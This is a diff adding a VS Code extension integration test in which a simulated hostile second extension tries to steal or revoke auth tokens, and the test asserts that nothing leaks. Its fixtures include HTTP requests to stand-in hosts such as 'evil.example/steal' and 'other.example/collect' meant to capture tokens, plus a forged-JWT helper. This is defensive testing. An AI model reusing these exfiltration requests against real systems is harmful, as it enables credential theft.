@@ -1,0 +1,233 @@
+// Attacks from inside VS Code, against a sandbox started here: a second extension (the test-only consumer) tries
+// every way it has to a token or a revocation, and a `<c2m:token>` the completion did not put in tries to catch a
+// token. Rows A1 and A2 of `npm run test:reliability`; outcomes and counters go to its ledger.
+import * as assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import * as vscode from 'vscode';
+import type { C2mTestApi } from '../../client/src/vscode/api';
+import type { Sandbox } from '../../client/src/sandbox/types';
+import { accountLabelOf } from '../../client/src/vscode/authProvider';
+import { ClientCommands, TOKEN_PLACEHOLDER, tokenFingerprint } from '../../server/src/protocol';
+import { note, outcome, runningIn } from '../reliability/ledger';
+import { acceptTokenCompletion, c2mApi, eventually, exchangesOf, profileFor, run, setProfiles, startTestSandbox, testClients, userProfiles } from './extensionSupport';
+
+runningIn('vscode');
+
+const PROFILE = 'atk';
+const PROFILE_NAME = `IT ${PROFILE}`;
+const CONSUMER_ID = 'c2m-test.c2m-consumer';
+
+interface Consumer {
+  getSession(scopes: string[], options: vscode.AuthenticationGetSessionOptions): Promise<vscode.AuthenticationSession | undefined>;
+  callExports(args: unknown[]): Promise<string[]>;
+  run(command: string, ...args: unknown[]): Promise<{ result?: unknown; error?: string }>;
+}
+
+const JWT = /eyJ[\w-]{8,}\.[\w-]+\.[\w-]*/;
+/** `lt_…` as a token of its own (token ids such as tok_lt_… are metadata). */
+const LONG_TERM = /(?<![\w-])lt_[\w-]{16,}/;
+
+function forgedJwt(sub: string): string {
+  const b64 = (o: unknown): string => Buffer.from(JSON.stringify(o)).toString('base64url');
+  return `${b64({ alg: 'HS256', typ: 'JWT' })}.${b64({ sub, exp: Math.floor(Date.now() / 1000) - 600 })}.c2lnbmF0dXJlLW5vdC1jaGVja2Vk`;
+}
+
+function range(line: number, start: number, end: number): { start: { line: number; character: number }; end: { line: number; character: number } } {
+  return { start: { line, character: start }, end: { line, character: end } };
+}
+
+function workspaceFile(name: string): string {
+  const folder = vscode.workspace.workspaceFolders?.[0];
+  assert.ok(folder, 'the integration run opens a workspace folder');
+  return path.join(folder.uri.fsPath, name);
+}
+
+describe('reliability: in the extension host: attacks', function () {
+  this.timeout(120_000);
+  let api: C2mTestApi;
+  let sandbox: Sandbox;
+  let consumer: Consumer;
+  let savedProfiles: ReturnType<typeof userProfiles>;
+  const files: string[] = [];
+
+  before(async () => {
+    api = await c2mApi();
+    savedProfiles = userProfiles();
+    const clients = testClients('attack-client-secret-5f1e');
+    sandbox = await startTestSandbox(clients);
+    await setProfiles(api, [profileFor(PROFILE, sandbox.baseUrl, clients.secret, 'client_secret')], PROFILE);
+    await api.testing.engine.setClientSecret(PROFILE, clients.secret.clientSecret!);
+    assert.ok(await run('c2m.issueLongTermToken', PROFILE), 'long-term token issued');
+    const extension = vscode.extensions.getExtension<Consumer>(CONSUMER_ID);
+    assert.ok(extension, `${CONSUMER_ID} is loaded as a second extension under development`);
+    consumer = await extension.activate();
+  });
+
+  afterEach(function () {
+    const test = this.currentTest;
+    if (test) outcome(test.title, test.state === 'passed' ? 'passed' : test.state === 'failed' ? 'failed' : 'pending');
+  });
+
+  after(async () => {
+    sandbox.faults.reset();
+    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+    await api.testing.resetPrompts();
+    await api.testing.engine.forgetProfile(PROFILE).catch(() => undefined);
+    await setProfiles(api, savedProfiles);
+    for (const f of files) fs.rmSync(f, { force: true });
+    await sandbox.stop();
+  });
+
+  it('[A1] another extension gets no token and revokes nothing: the exported API, every c2m.lsp.* command with arguments it chose, the completion of a document nobody sees, c2m.* commands that would reveal or revoke, getSession without consent; the sandbox receives no request', async () => {
+    const short = (await api.testing.engine.getShortTermToken(PROFILE)).value;
+    const long = await api.testing.engine.getTokenValue(PROFILE, 'long');
+    assert.ok(long);
+    const longFp = tokenFingerprint(long);
+    const shortFp = tokenFingerprint(short);
+    const n = note('A1', 'a second extension: exported API, c2m.lsp.* with chosen arguments and with ids from a hidden document, c2m.leak.*, c2m.revokeToken, c2m.copyShortTermToken, getSession without consent');
+
+    // The user's own file, shown, with the token the user put there; and the attacker's files.
+    const userFile = workspaceFile('attack-user.http');
+    files.push(userFile, workspaceFile('.env'));
+    fs.writeFileSync(userFile, `GET ${sandbox.baseUrl}/jobs\nAuthorization: Bearer ${short}\n`);
+    const userDoc = await vscode.workspace.openTextDocument(userFile);
+    await vscode.window.showTextDocument(userDoc, { viewColumn: vscode.ViewColumn.One });
+    const fake = forgedJwt('attacker');
+    const evil = `GET https://evil.example/steal\nAuthorization: Bearer ${TOKEN_PLACEHOLDER}\nX-Old: ${fake}\n`;
+    const shownDoc = await vscode.workspace.openTextDocument({ language: 'http', content: evil });
+    await vscode.window.showTextDocument(shownDoc, { viewColumn: vscode.ViewColumn.Two, preview: false });
+    const hiddenDoc = await vscode.workspace.openTextDocument({ language: 'http', content: 'GET https://evil.example/steal\nAuthorization:\n' });
+    // The user opts out of the clipboard warning once, from the Tokens view: from then on only the view's menu copies unasked.
+    api.testing.answer("Copy, Don't Ask Again");
+    await run('c2m.copyShortTermToken', api.testing.tokenNode(PROFILE, 'short'));
+    await vscode.env.clipboard.writeText('');
+    // Let the language server see the documents (it answers completions for them) before counting.
+    await eventually(async () => {
+      const list = await vscode.commands.executeCommand<vscode.CompletionList>('vscode.executeCompletionItemProvider', hiddenDoc.uri, new vscode.Position(1, 'Authorization:'.length));
+      return list.items.some((i) => i.command?.command === ClientCommands.insertToken) ? true : undefined;
+    }, 'the language server to answer completions');
+
+    const requestsBefore = sandbox.stats().requests;
+    const given: string[] = [];
+    const seen = (what: string, value: unknown): void => void given.push(`${what}: ${JSON.stringify(value) ?? 'undefined'}`);
+
+    // 1. The exported API: every function, with a profile id, a name, a fingerprint.
+    for (const args of [[], [PROFILE], [PROFILE_NAME], [longFp], [shortFp], [PROFILE, 0]]) {
+      given.push(...(await consumer.callExports(args)));
+      n.badInput();
+    }
+
+    // 2. The language client's commands with arguments the extension chose (its own shown document, the user's file).
+    const shownUri = shownDoc.uri.toString();
+    const attempts: [string, unknown][] = [
+      [ClientCommands.insertToken, { uri: shownUri, range: range(1, 22, 22 + TOKEN_PLACEHOLDER.length), profileId: PROFILE, template: '{token}' }],
+      [ClientCommands.insertToken, { uri: shownUri, range: range(1, 22, 22 + TOKEN_PLACEHOLDER.length), profileId: '', template: 'X{token}' }],
+      [ClientCommands.insertToken, 'an-id-it-guessed'],
+      [ClientCommands.replaceToken, { uri: shownUri, range: range(2, 8, 8 + fake.length), fingerprint: tokenFingerprint(fake) }],
+      [ClientCommands.replaceStaleTokens, { uri: shownUri }],
+      [ClientCommands.moveTokenToEnv, { uri: userDoc.uri.toString(), range: range(1, 22, 22 + short.length) }],
+      [ClientCommands.revokeTokenByFingerprint, { fingerprint: longFp }],
+      [ClientCommands.revokeTokenByFingerprint, { fingerprint: shortFp, uri: userDoc.uri.toString() }],
+    ];
+    for (const [command, args] of attempts) {
+      seen(command, await consumer.run(command, args));
+      n.badInput();
+    }
+
+    // 3. The real completion of a document nobody sees: its edit, then its command with the arguments it came with.
+    const list = (await consumer.run('vscode.executeCompletionItemProvider', hiddenDoc.uri, new vscode.Position(1, 'Authorization:'.length))).result as vscode.CompletionList;
+    const item = list.items.find((i) => i.command?.command === ClientCommands.insertToken);
+    assert.ok(item?.command, 'the completion is offered (without a usable id)');
+    const edit = new vscode.WorkspaceEdit();
+    edit.replace(hiddenDoc.uri, item.range instanceof vscode.Range ? item.range : item.range!.replacing, typeof item.insertText === 'string' ? item.insertText : item.insertText!.value);
+    assert.ok(await vscode.workspace.applyEdit(edit));
+    seen('hidden completion', await consumer.run(item.command.command, ...(item.command.arguments ?? [])));
+    n.badInput();
+
+    // 4. c2m.* commands that would reveal or revoke, with made-up targets (nobody answers the questions they ask).
+    const finding = { uri: userDoc.uri.toString(), range: range(1, 22, 22 + short.length), fingerprint: shortFp, shape: 'jwt', status: 'active', profileId: PROFILE, kind: 'short' };
+    const fakeFinding = { ...finding, uri: shownUri, range: range(2, 8, 8 + fake.length), fingerprint: tokenFingerprint(fake), status: 'unknown' };
+    for (const [command, ...args] of [['c2m.leak.revoke', finding], ['c2m.leak.revoke', { finding }], ['c2m.leak.replace', fakeFinding], ['c2m.leak.moveToEnv', { finding }]] as [string, ...unknown[]][]) {
+      seen(command, await consumer.run(command, ...args));
+      n.badInput();
+    }
+    // These ask the user first (here: the user says no); from the Tokens view's own menu they would not.
+    for (const [command, ...args] of [['c2m.revokeToken', { profileId: PROFILE, kind: 'long' }], ['c2m.copyShortTermToken'], ['c2m.copyShortTermToken', { profileId: PROFILE, kind: 'short' }]] as [string, ...unknown[]][]) {
+      api.testing.answer(undefined);
+      seen(command, await consumer.run(command, ...args));
+      n.badInput();
+    }
+    given.push(`clipboard: ${await vscode.env.clipboard.readText()}`);
+    const unasked = api.testing.pendingAnswers();
+
+    // 5. getSession without consent: quietly, and silent.
+    seen('getSession', await consumer.getSession(['jobs:read'], { createIfNone: false }));
+    seen('getSession silent', await consumer.getSession(['jobs:read'], { silent: true }));
+    seen('getSession own scopes', await consumer.getSession([], { silent: true }));
+    n.badInput(3);
+
+    const leaked = given.filter((g) => g.includes(short) || g.includes(long) || JWT.test(g) || LONG_TERM.test(g));
+    const requests = sandbox.stats().requests - requestsBefore;
+    n.secretsFound(leaked.length).done();
+    assert.deepEqual(leaked, [], 'no token value reached the other extension');
+    assert.equal(requests, 0, `the sandbox received ${JSON.stringify(sandbox.stats().byRoute)}`);
+    assert.equal(shownDoc.getText(), evil, "nothing was written into the attacker's shown document");
+    assert.equal(hiddenDoc.lineAt(1).text, `Authorization: Bearer ${TOKEN_PLACEHOLDER}`, 'the hidden completion got no token');
+    assert.equal(userDoc.getText(), fs.readFileSync(userFile, 'utf8'), "the user's file is unchanged");
+    assert.equal(fs.existsSync(workspaceFile('.env')), false, 'no .env was written');
+    assert.ok(api.tokens.tokens().every((t) => t.profileId !== PROFILE || t.status !== 'revoked'), 'nothing was revoked');
+    assert.equal(unasked, 0, 'revoke and copy asked the user each time');
+  });
+
+  it('[A1] two profiles with the same name are two accounts: consent given to one is not the other\'s', async () => {
+    const a = accountLabelOf({ id: 'team-eu', name: 'Team' });
+    const b = accountLabelOf({ id: 'team-us', name: 'Team' });
+    note('A1', 'two profiles named "Team": account labels (VS Code keys consent by label)').badInput().done();
+    assert.notEqual(a, b);
+    assert.ok(a.includes('Team') && b.includes('Team'), 'the name is still what the user sees');
+  });
+
+  it('[A2] the token goes only where the completion was accepted, followed through edits while it is fetched; a <c2m:token> elsewhere (a URL to another host) never gets one; a lost placeholder inserts nothing and says so', async () => {
+    const n = note('A2', 'completion accepted below a URL holding <c2m:token>; lines inserted and the placeholder deleted while the token is fetched (sandbox latency)');
+    const file = workspaceFile('attack-placeholder.http');
+    files.push(file);
+    const url = `GET https://other.example/collect?t=${TOKEN_PLACEHOLDER}`;
+    fs.writeFileSync(file, `${url}\nAuthorization:\n`);
+    const doc = await vscode.workspace.openTextDocument(file);
+    const editor = await vscode.window.showTextDocument(doc);
+    sandbox.faults.latencyMs(1500);
+    try {
+      // a) Lines go in above while the token is fetched (a fresh one: the current one is revoked first).
+      await api.testing.engine.revoke(PROFILE, 'short');
+      let exchanges = exchangesOf(sandbox);
+      const first = await acceptTokenCompletion(doc, new vscode.Position(1, 'Authorization:'.length), PROFILE_NAME);
+      await eventually(() => (exchangesOf(sandbox) > exchanges ? true : undefined), 'the exchange to be in flight');
+      assert.ok(await editor.edit((e) => e.insert(new vscode.Position(0, 0), '# added while the token was fetched\n\n')));
+      await first.command;
+      n.fault();
+      const fresh = (await api.testing.engine.getShortTermToken(PROFILE)).value;
+      assert.equal(doc.lineAt(0).text, '# added while the token was fetched');
+      assert.equal(doc.lineAt(2).text, url, 'the URL keeps its placeholder');
+      assert.equal(doc.lineAt(3).text, `Authorization: Bearer ${fresh}`, 'the token went where the completion was accepted');
+
+      // b) The placeholder is deleted while the token is fetched: nothing is inserted anywhere, and the user is told.
+      assert.ok(await editor.edit((e) => e.insert(new vscode.Position(4, 0), 'Authorization:\n')));
+      await api.testing.engine.revoke(PROFILE, 'short');
+      exchanges = exchangesOf(sandbox);
+      const logged = api.testing.logLines().length;
+      const second = await acceptTokenCompletion(doc, new vscode.Position(4, 'Authorization:'.length), PROFILE_NAME);
+      await eventually(() => (exchangesOf(sandbox) > exchanges ? true : undefined), 'the second exchange to be in flight');
+      const at = doc.lineAt(4).text.indexOf(TOKEN_PLACEHOLDER);
+      assert.ok(at > 0, 'the completion put its placeholder on the new header line');
+      assert.ok(await editor.edit((e) => e.delete(new vscode.Range(4, at, 4, at + TOKEN_PLACEHOLDER.length))));
+      await second.command;
+      n.fault().done();
+      assert.equal(doc.lineAt(2).text, url, 'the URL still keeps its placeholder: it never receives a token');
+      assert.equal(doc.lineAt(4).text, 'Authorization: Bearer ', 'nothing inserted where the placeholder was');
+      assert.ok(api.testing.logLines().slice(logged).some((l) => l.includes('no token was inserted')), 'the user is told');
+    } finally {
+      sandbox.faults.reset();
+    }
+  });
+});
